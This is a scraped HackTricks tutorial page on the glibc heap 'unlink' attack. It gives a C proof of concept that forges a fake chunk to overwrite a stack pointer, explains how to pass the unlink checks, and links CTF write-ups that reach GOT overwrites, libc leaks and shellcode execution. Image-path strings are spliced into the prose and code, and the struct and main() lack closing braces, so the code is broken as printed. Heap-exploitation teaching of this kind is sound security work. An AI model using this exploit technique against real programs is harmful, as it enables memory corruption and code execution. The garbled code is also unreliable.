Unlink Attack

Learn AWS hacking from zero to hero with htARTE (HackTricks AWS Red Team Expert)!

Other ways to support HackTricks:

Basic Information

When this attack was discovered it mostly allowed a WWW (Write What Where), however, some checks wereadded making the new version of the attack more interesting more more complex and useless.

Code Example:

#include <unistd.h>
#include <stdlib.h>
#include <string.h>
#include <stdio.h>

// Altered from https://github.com/DhavalKapil/heap-exploitation/tree/d778318b6a14edad18b20421f5a06fa1a6e6920e/assets/files/unlink_exploit.c to make it work

struct chunk_structure {
  size_t prev_size;
  size_t size;
  struct chunk_structure *fd;
  struct chunk_structure *bk;
  char buf[10];               // padding

int main() {
  unsigned long long *chunk1, *chunk2;
  struct chunk_structure *fake_chunk, *chunk2_hdr;
  char data[20];

  // First grab two chunks (non fast)chunk1 = malloc(0x8000);
  chunk2 = malloc(0x8000);
  printf("Stack pointer to chunk1: %p\n", &chunk1);
  printf("Chunk1: %p\n", chunk1);
  printf("Chunk2: %p\n", chunk2);

  // Assuming attacker has control over chunk1's contents
  // Overflow the heap, override chunk2's header

  // First forge a fake chunk starting at chunk1
  // Need to setup fd and bk pointers to pass the unlink security check
  fake_chunk = (struct chunk_structure *)chunk1;
  fake_chunk->size = 0x8000;
  fake_chunk->fd = (struct chunk_structure *)(&chunk1 - 3); // Ensures P->fd->bk == P
  fake_chunk->bk = (struct chunk_structure *)(&chunk1 - 2); // Ensures P->bk->fd == P

  // Next modify the header of chunk2 to pass all security checks
  chunk2_hdr = (struct chunk_structure*)(chunk2 - 2);
  chunk2_hdr->prev_size = 0x8000;  // chunk1's data region size
  chunk2_hdr->size &= ~1;        // Unsetting prev_in_use bit

  // Now, when chunk2 is freed, attacker's fake chunk is 'unlinked'
  // This results in chunk1 pointer pointing to chunk1 - 3
  // i.e. chunk1[3] now contains chunk1 itself.
  // We then make chunk1 point to some victim's data
  printf("Chunk1: %p\n", chunk1);
  printf("Chunk1[3]: %x\n", chunk1[3]);

  chunk1[3] = (unsigned long long)data;

  strcpy(data, "Victim's data");

  // Overwrite victim's data using chunk1
  chunk1[0] = 0x002164656b636168LL;

  printf("%s\n", data);

  return 0;
  • Attack doesn't work if tcaches are used (after 2.26)


This attack allows to change a pointer to a chunk to point 3 addresses before of itself. If this new location (surroundings of where the pointer was located) has interesting stuff, like other controllable allocations / stack..., it's possible to read/overwrite them to cause a bigger harm.

  • If this pointer was located in the stack, because it's now pointing 3 address before itself and the user potentially can readit and modify it, it will be possible to leak sensitive info from the stack or even modify the return address (maybe) without touching the canary

  • In order CTF examples, this pointer is located in an array of pointers to other allocations, therefore, making it point 3 address before and being able to read and write it, it's possible to makethe other pointers point to other addresses. As potentially the user can read/write also the other allocations, he can leak information or overwrite new address in arbitrary locations (like in the GOT).


  • Some control in a memory (e.g. stack) to create a couple of chunks giving values to some of the attributes.

  • Stack leak in order to set the pointers of the fake chunk.


  • There are a couple of chunks (chunk1 and chunk2)

  • The attacker controls the content of chunk1 and the headers of chunk2.

  • In chunk1 the attacker creates the structure of a fake chunk:

    • To bypass protections he makes sure that the field size is correct to avoid the error: corrupted size vs. prev_size while consolidating

    • and fields fd and bk of the fake chunk are pointing to where chunk1 pointer is stored in the with offsets of -3 and -2 respectively so fake_chunk->fd->bk and fake_chunk->bk->fd points to position in memory (stack) where the real chunk1 address is located:

  • The headers of the chunk2 are modified to indicate that the previous chunk is not used and that the size is the size of the fake chunk contained.

  • When the second chunk is freed then this fake chunk is unlinked happening:• fake_chunk->fd->bk = fake_chunk->bk

    • fake_chunk->bk->fd = fake_chunk->fd

  • Previously it was made that fake_chunk->fd->bk and fake_chunk->fd->bk point to the same place (the location in the stack where chunk1 was stored, so it was a valid linked list). As both are pointing to the same location only the last one (fake_chunk->bk->fd = fake_chunk->fd) will take effect.

  • This will overwrite the pointer to chunk1 in the stack to the address (or bytes) stored 3 addresses before in the stack.

    • Therefore, if an attacker could control the content of the chunk1 again, he will be able to write inside the stack being able to potentially overwrite the return address skipping the canary and modify the values and points of local variables. Even modifying again the address of chunk1 stored in the stack to a different location where if the attacker could control again the content of chunk1 he will be able to write anywhere.

    • Note that this was possible because the addresses are stored in the stack. The risk and exploitation might depend on where are the addresses to the fake chunk being stored.• Although it would be weird to find an unlink attack even in a CTF here you have some writeups where this attack was used:

    • CTF example: https://guyinatuxedo.github.io/30-unlink/hitcon14_stkof/index.html

      • In this example, instead of the stack there is an array of malloc'ed addresses. The unlink attack is performed to be able to allocate a chunk here, therefore being able to control the pointers of the array of malloc'ed addresses. Then, there is another functionality that allows to modify the content of chunks in these addresses, which allows to point addresses to the GOT, modify function addresses to egt leaks and RCE.• Another CTF example: https://guyinatuxedo.github.io/30-unlink/zctf16_note2/index.html

      • Just like in the previous example, there is an array of addresses of allocations. It's possible to perform an unlink attack to make the address to the first allocation point a few possitions before starting the array and the overwrite this allocation in the new position. Therefore, it's possible to overwrite pointers of other allocations to point to GOT of atoi, print it to get a libc leak, and then overwrite atoi GOT with the address to a one gadget.

    • CTF example with custom malloc and free functions that abuse a vuln very similar to the unlink attack: https://guyinatuxedo.github.io/33-custom_misc_heap/csaw17_minesweeper/index.html

      • There is an overflow that allows to control the FD and BK pointers of custom malloc that will be (custom) freed. Moreover, the heap has the exec bit,so it's possible to leak a heap address andpoint a function from the GOT to a heap chunk with a shellcode to execute.

Learn AWS hacking from zero to hero withhtARTE (HackTricks AWS Red Team Expert)!

Other ways to support HackTricks:

Last updated